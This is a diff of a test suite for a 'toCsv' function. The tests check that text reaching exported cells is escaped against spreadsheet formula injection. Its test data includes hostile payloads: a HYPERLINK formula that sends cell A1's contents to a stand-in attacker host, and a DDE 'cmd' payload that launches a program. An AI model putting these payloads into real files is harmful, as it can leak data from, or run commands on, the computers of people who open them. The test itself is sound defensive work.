@@ -46,7 +46,7 @@ describe('toCsv', () => {
   // Knelpunten can arrive through the sync API with any text in them (issue 13).
   const hostile = [
     'Geen bed\n=HYPERLINK("http://evil.example/?"&A1;"klik")',
-    'regel 1\r\n+cmd|\' /C calc\'!A0',
+    "regel 1\r\n+cmd|' /C calc'!A0",
     'alleen CR\r-2+3',
     'lijn\u2028@SUM(1;2)',
     'tab\n\t=1+1',
@@ -68,6 +68,7 @@ describe('toCsv', () => {
     const lines = (text ?? '').split('\n');
     expect(lines.filter(startsLikeFormula)).toEqual([]);
     // Nothing is lost: without the escape quotes, the lines are the original ones.
+    // eslint-disable-next-line no-control-regex -- vertical tab and form feed are line breaks here
     const original = cell.split(/\r\n|[\n\r\u000B\u000C\u0085\u2028\u2029]/);
     expect(lines.map((line) => line.replace(/^'(?=[=+\-@\t\r])/, ''))).toEqual(original);
   });
